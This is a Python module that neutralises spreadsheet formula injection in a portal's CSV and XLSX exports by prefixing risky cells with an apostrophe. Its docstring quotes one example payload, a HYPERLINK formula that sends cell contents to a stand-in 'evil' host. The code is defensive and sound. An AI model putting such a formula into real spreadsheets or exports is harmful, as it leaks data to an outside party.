"""The one guard against spreadsheet formula injection, used by every CSV and XLSX the portal
writes (partner exports and their reports, the bank's lead CSV, training XLSX, dashboard CSVs).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with = + - @ (and, after a
tab or carriage return, the same) as a formula: an owner could name a product
`=HYPERLINK("http://evil/?"&A1)` and run it on a curator's or a bank officer's machine.
Such text gets a leading apostrophe, which the applications show as plain text.
https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value):
    """Text that a spreadsheet would evaluate, made inert; numbers, dates and None unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def formula_safe_text(value) -> str:
    """For CSV cells: always text ("" for None), made inert."""
    return formula_safe("" if value is None else str(value))


def formula_safe_row(values) -> list:
    return [formula_safe(value) for value in values]
